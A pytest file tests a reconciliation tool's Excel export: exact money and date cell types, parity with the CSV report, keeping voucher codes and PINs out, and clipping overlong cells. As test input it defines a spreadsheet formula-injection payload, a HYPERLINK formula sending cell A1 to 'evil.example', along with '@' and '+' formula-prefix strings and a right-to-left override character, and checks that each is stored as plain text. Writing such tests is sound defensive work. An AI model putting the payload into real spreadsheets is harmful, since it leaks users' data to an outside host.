"""discrepancies.xlsx and `recon breaks apply`: the workbook read back by a reader that is not
its writer (openpyxl), edited as an analyst edits it, and applied to the break history of a
real night against the sandbox on loopback.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recon import report, sheet
from recon.demo import DemoResult, run_demo
from recon.history import History
from tests.conftest import default_scenario
from tests.test_report import DAY

TODAY = datetime.now(UTC).date()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> DemoResult:
    return run_demo(tmp_path_factory.mktemp("demo"))


def finding(**values: Any) -> dict[str, Any]:
    return {
        "check": "amount_mismatch",
        "severity": "error",
        "state": "new",
        "currency": "USD",
        "drift": None,
        "at_risk": None,
        **values,
    }


def model(*findings: dict[str, Any], quarantine: list[dict[str, Any]] | None = None) -> Any:
    return report.Report(
        day=DAY,
        run={"counts": {}, "totals": [], "complete": True},
        findings=list(findings),
        resolved=[],
        quarantine=quarantine or [],
        trend=[],
        generated_at=datetime(2026, 4, 15, tzinfo=UTC),
    )


def cells(path: Path, name: str = sheet.FINDINGS_SHEET) -> tuple[Any, list[dict[str, Any]]]:
    """The sheet, and its rows as {header: openpyxl cell}."""
    book = openpyxl.load_workbook(path)
    ws = book[name]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, row, strict=False)) for row in ws.iter_rows(min_row=2)]
    return ws, rows


# -- the workbook ---------------------------------------------------------------------------


def test_cells_are_typed_money_dates_and_text(tmp_path: Path) -> None:
    path = tmp_path / "d.xlsx"
    created = datetime(2026, 4, 14, 5, 36, 4)
    sheet.write_workbook(
        model(
            finding(
                currency="KWD",
                starship_amount=Decimal("9.8250"),
                ledger_amount=Decimal("9.8240"),
                delta=Decimal("-0.0010"),
                order_id="000123",
                ledger_entry_id="0042",
                reference="007",
                created_at=created,
                first_seen=DAY,
                age_hours=18.4,
                line=7,
                break_id="0123456789ab",
                detail=HYPERLINK,
            ),
            finding(currency="JPY", starship_amount=Decimal("5850.0000"), detail="+1 yen"),
            finding(currency="USD", delta=Decimal("24.1300"), reference="@SUM(A1)"),
            # more digits than a double holds: text, never a rounded number
            finding(currency="USD", starship_amount=Decimal("12345678901234.5600")),
        ),
        path,
    )
    ws, rows = cells(path)
    kwd, jpy, usd, huge = rows
    assert [c.value for c in ws[1]][13] == "created_at (UTC)"
    for cell, number_format, exact in [
        (kwd["starship_amount"], "#,##0.000", "9.825"),
        (kwd["delta"], "#,##0.000", "-0.001"),
        (jpy["starship_amount"], "#,##0", "5850"),
        (usd["delta"], "#,##0.00", "24.13"),
    ]:
        assert cell.data_type == "n" and isinstance(cell.value, int | float)
        assert cell.number_format == number_format
        assert Decimal(repr(cell.value)) == Decimal(exact)
    assert huge["starship_amount"].data_type == "s"
    assert huge["starship_amount"].value == "12345678901234.56"
    # the file holds the exact decimal text, not a binary tail
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>-0.001</v>" in xml and "<v>9.825</v>" in xml and "<v>24.13</v>" in xml
    assert kwd["created_at (UTC)"].is_date and kwd["created_at (UTC)"].value == created
    assert kwd["first_seen"].is_date and kwd["first_seen"].value.date() == DAY
    assert kwd["night"].is_date and kwd["night"].value.date() == DAY
    assert kwd["age_hours"].value == 18.4 and kwd["line"].value == 7
    for name, text in [
        ("order_id", "000123"),
        ("ledger_entry_id", "0042"),
        ("reference", "007"),
        ("break_id", "0123456789ab"),
    ]:
        assert kwd[name].data_type == "s" and kwd[name].value == text
    # a formula's text is a plain string cell, never a formula, and keeps its characters
    for cell, text in [
        (kwd["detail"], HYPERLINK),
        (jpy["detail"], "+1 yen"),
        (usd["reference"], "@SUM(A1)"),
    ]:
        assert cell.data_type == "s" and cell.value == text
    assert "<f>" not in xml
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}5"
    [validation] = ws.data_validations.dataValidation
    assert validation.type == "list" and validation.formula1 == '"ack,snooze,reopen"'
    assert str(validation.sqref) == "W2:W5"


@settings(max_examples=60, deadline=None)
@given(
    currency=st.sampled_from(["JPY", "USD", "KWD"]),
    minor=st.integers(min_value=-(10**14) + 1, max_value=10**14 - 1),
)
def test_money_cells_read_back_exactly(tmp_path_factory: Any, currency: str, minor: int) -> None:
    """Up to 15 significant digits (USD 999,999,999,999.99), the double a reader parses the
    cell into is the amount: rounded to the currency's minor unit, or as Python's repr."""
    decimals = {"JPY": 0, "USD": 2, "KWD": 3}[currency]
    amount = Decimal(minor).scaleb(-decimals)
    path = tmp_path_factory.mktemp("money") / "d.xlsx"
    sheet.write_workbook(model(finding(currency=currency, delta=amount)), path)
    [row] = cells(path)[1]
    assert row["delta"].data_type == "n"
    assert Decimal(repr(float(row["delta"].value))) == amount


def test_the_demo_workbook_has_the_csvs_rows_and_columns(demo: DemoResult) -> None:
    folder = demo.report.parent
    found = list(csv.DictReader(io.StringIO((folder / "discrepancies.csv").read_text())))
    ws, rows = cells(folder / sheet.FILE_NAME)
    header = [str(c.value).removesuffix(" (UTC)") for c in ws[1]]
    assert header == [*report.CSV_COLUMNS, "action", "until", "night"]
    assert [r["break_id"].value for r in rows] == [r["break_id"] for r in found]
    assert [r["state"].value for r in rows] == [r["state"] for r in found]
    for cell, text in zip((r["delta"] for r in rows), (r["delta"] for r in found), strict=True):
        if text:
            assert Decimal(repr(cell.value)) == Decimal(text)
    quarantine = list(csv.DictReader(io.StringIO((folder / "quarantine.csv").read_text())))
    qs, qrows = cells(folder / sheet.FILE_NAME, sheet.QUARANTINE_SHEET)
    assert [c.value for c in qs[1]] == list(report.QUARANTINE_COLUMNS)
    assert [r["line"].value for r in qrows] == [int(r["line"]) for r in quarantine]
    assert qs.freeze_panes == "A2" and qs.auto_filter.ref


def test_no_voucher_code_or_pin_reaches_the_workbook(demo: DemoResult) -> None:
    secrets = {
        value
        for order in default_scenario().orders
        for item in order.items
        for value in (item.voucher_code, item.pin)
        if value and len(value) > 4
    }
    assert secrets
    with zipfile.ZipFile(demo.report.parent / sheet.FILE_NAME) as book:
        content = b"".join(book.read(name) for name in book.namelist())
    assert not [s for s in secrets if s.encode() in content]
    assert b"claim.sandbox.invalid" not in content


def test_rewriting_gives_the_same_bytes_inside_the_atomic_folder(
    demo: DemoResult, tmp_path: Path
) -> None:
    night = report.build(History(demo.night_history), DAY)
    first = report.write(night, tmp_path).workbook.read_bytes()
    files = report.write(night, tmp_path)
    assert files.workbook == tmp_path / str(DAY) / "discrepancies.xlsx"
    assert files.workbook.read_bytes() == first
    assert sorted(p.name for p in tmp_path.iterdir()) == [str(DAY)]


def test_a_cell_longer_than_excel_holds_is_clipped_saying_so(tmp_path: Path) -> None:
    path = tmp_path / "d.xlsx"
    sheet.write_workbook(model(finding(note="n" * 100_000, detail="\u202eexe.txt")), path)
    [row] = cells(path)[1]
    assert len(row["note"].value) <= sheet.EXCEL_CELL
    assert row["note"].value.endswith("more characters)")
    assert row["detail"].value == "<U+202E>exe.txt"
